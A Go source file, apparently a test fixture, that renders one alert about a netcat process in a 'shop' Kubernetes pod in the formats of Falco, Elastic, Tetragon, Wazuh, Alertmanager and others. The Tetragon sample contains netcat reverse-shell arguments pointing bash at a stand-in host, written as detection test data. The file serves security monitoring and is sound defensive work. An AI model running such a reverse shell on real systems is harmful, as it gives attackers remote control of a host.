package main

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"
)

// The demo's netcat, as those who alert about it know it. Entity ids are made of
// its pid; only those who report by them have them.
const (
	demoPID    = 11570
	demoFullID = "6ff4da17d163"
	demoEntity = "bm9kZS0xOm5j"
)

// shapeOf is an alert about the demo's netcat, in the shape of somebody who
// passes alerts on.
type shapeOf struct {
	name    string
	profile string
	doc     any
	key     string // by which it finds its process
}

type obj = map[string]any

// shapes are the alert in every shape. at is its time, start that of the process.
func shapes(at, start time.Time) []shapeOf {
	when := at.UTC().Format(time.RFC3339Nano)
	started := start.UTC().Format("2006-01-02T15:04:05.000Z")
	fields := obj{
		"container.id": demoContainer, "container.name": "web", "k8s.ns.name": "shop", "k8s.pod.name": "web-0", "evt.type": "execve",
		"proc.name": "nc.traditional", "proc.cmdline": demoLine, "proc.pname": "sh", "proc.tty": 0, "user.name": "root", "user.uid": 0,
	}
	falco := obj{
		"rule": "Netcat Remote Code Execution in Container", "priority": "Warning", "source": "syscall", "time": when, "hostname": "node-1",
		"output": "Warning Netcat runs in a container", "output_fields": fields, "tags": []string{"container"},
	}
	with := func(of, more obj) obj {
		all := obj{}
		for k, v := range of {
			all[k] = v
		}
		for k, v := range more {
			all[k] = v
		}
		return all
	}
	flat, labels := obj{}, obj{"rule": falco["rule"], "priority": "Warning", "source": "falco", "eventsource": "syscall", "hostname": "node-1"}
	for k, v := range fields {
		flat[strings.ReplaceAll(k, ".", "_")] = v
		labels[strings.ReplaceAll(k, ".", "_")] = fmt.Sprint(v)
	}
	text, _ := json.Marshal(falco)
	process := obj{
		"pid": demoPID, "start": started, "name": "nc.traditional", "executable": "/usr/bin/nc.traditional", "command_line": demoLine, "entity_id": demoEntity,
		"parent": obj{"entity_id": "c2g=", "name": "sh"},
	}
	elastic := obj{"@timestamp": when, "process": process, "container": obj{"id": demoContainer}, "event": obj{"kind": "alert", "category": []string{"process"}, "action": "exec", "id": "e1"}}
	const line, start1 = "container, command line and time", "pid and start time"
	return []shapeOf{
		{"falco", "falco", falco, line},
		{"falco, a hit", "falco", obj{"_index": "falco-1", "_id": "x", "_source": falco}, line},
		{"falco, columns of a hit", "falco", obj{"_index": "falco-1", "_id": "x", "fields": obj{
			"rule": []any{falco["rule"]}, "priority": []string{"Warning"}, "time": []string{when}, "output_fields.container.id": []string{demoContainer}, "output_fields.proc.cmdline": []string{demoLine},
		}}, line},
		{"falco, an answer", "falco", obj{"took": 1, "hits": obj{"total": obj{"value": 1}, "hits": []obj{{"_source": falco}}}}, line},
		{"filebeat", "falco", obj{"@timestamp": when, "json": falco}, line},
		{"message", "falco", obj{"@timestamp": when, "message": string(text)}, line},
		{"logz.io", "logzio", with(falco, obj{"type": "falco", "@timestamp": when, "tags": []string{"beats-1", "container"}}), line},
		{"falcosidekick", "falcosidekick", with(falco, obj{"uuid": "u1", "@timestamp": when}), line},
		{"falcosidekick, flattened", "falcosidekick", with(falco, obj{"uuid": "u1", "output_fields": flat}), line},
		{"elastic's falco", "falco-elastic", obj{
			"@timestamp": when, "data_stream": obj{"dataset": "falco.alerts"}, "event": obj{"kind": "alert", "severity": 3, "provider": "syscall"},
			"rule": obj{"name": falco["rule"]}, "falco": obj{"time": when, "hostname": "node-1"}, "container": obj{"id": demoContainer},
			"process": obj{"name": "nc.traditional", "command_line": demoLine}, "orchestrator": obj{"namespace": "shop", "resource": obj{"name": "web-0"}},
		}, line},
		{"endpoint", "endpoint", with(elastic, obj{"rule": obj{"name": "Netcat"}}), start1},
		{"cloud_defend", "cloud-defend", with(elastic, obj{"orchestrator": obj{"namespace": "shop", "resource": obj{"name": "web-0", "type": "pod"}}, "cloud_defend": obj{"matched_selectors": []string{"nc"}}}), start1},
		{"elastic's alerts", "elastic-alerts", with(elastic, obj{
			"kibana.alert.rule.name": "Netcat", "kibana.alert.uuid": "k1", "kibana.alert.severity": "high", "kibana.alert.original_time": when,
		}), start1},
		{"tetragon", "tetragon", obj{"time": when, "node_name": "node-1", "process_exec": obj{
			"process": obj{
				"exec_id": demoEntity, "pid": demoPID, "binary": "/usr/bin/nc.traditional", "arguments": "-e /bin/bash 127.0.0.66 4444", "start_time": start.UTC().Format(time.RFC3339Nano),
				"docker": demoContainer + "aaaaaaaaaaaaaaaaaaa", "parent_exec_id": "c2g=",
				"pod": obj{"namespace": "shop", "name": "web-0", "container": obj{"id": "containerd://" + demoContainer + strings.Repeat("a", 52), "name": "web"}},
			},
		}}, start1},
		{"wazuh, of falco", "falco", obj{
			"timestamp": when, "rule": obj{"level": 12, "description": "Falco: netcat", "id": "100"}, "agent": obj{"name": "node-1"}, "manager": obj{"name": "m"}, "decoder": obj{"name": "json"}, "id": "1.2",
			"data": falco,
		}, line},
		{"wazuh, of audit", "wazuh", obj{
			"timestamp": at.UTC().Format("2006-01-02T15:04:05.000-0700"), "rule": obj{"level": 12, "description": "Audit: netcat", "id": "80792"}, "agent": obj{"name": "node-1"}, "manager": obj{"name": "m"},
			"decoder": obj{"name": "auditd"}, "id": "1.3", "data": obj{"audit": obj{"pid": fmt.Sprint(demoPID), "command": "nc.traditional", "exe": "/usr/bin/nc.traditional"}},
		}, "pid and time"},
		{"wazuh, of docker", "wazuh", obj{
			"timestamp": at.UTC().Format("2006-01-02T15:04:05.000-0700"), "rule": obj{"level": 7, "description": "Docker: exec", "id": "87907"}, "agent": obj{"name": "node-1"}, "manager": obj{"name": "m"},
			"decoder": obj{"name": "json"}, "id": "1.4", "data": obj{"docker": obj{"Type": "container", "Action": "exec", "Actor": obj{"ID": demoContainer + strings.Repeat("a", 52), "Attributes": obj{"name": "web"}}}},
		}, "container and time"},
		{"alertmanager", "alertmanager", obj{
			"receiver": "soc", "status": "firing", "version": "4", "groupLabels": obj{}, "commonLabels": labels,
			"alerts": []obj{{"status": "firing", "labels": labels, "annotations": obj{"info": "Warning Netcat", "summary": "Netcat"}, "startsAt": when, "endsAt": "0001-01-01T00:00:00Z", "fingerprint": "f1"}},
		}, line},
		{"alertmanager, of kubernetes", "alertmanager", obj{
			"alerts": []obj{{"status": "firing", "labels": obj{"alertname": "PodNetworkHigh", "severity": "warning", "namespace": "shop", "pod": "web-0", "container": "web"}, "annotations": obj{"summary": "x"}, "startsAt": when}},
		}, "pod and time"},
	}
}
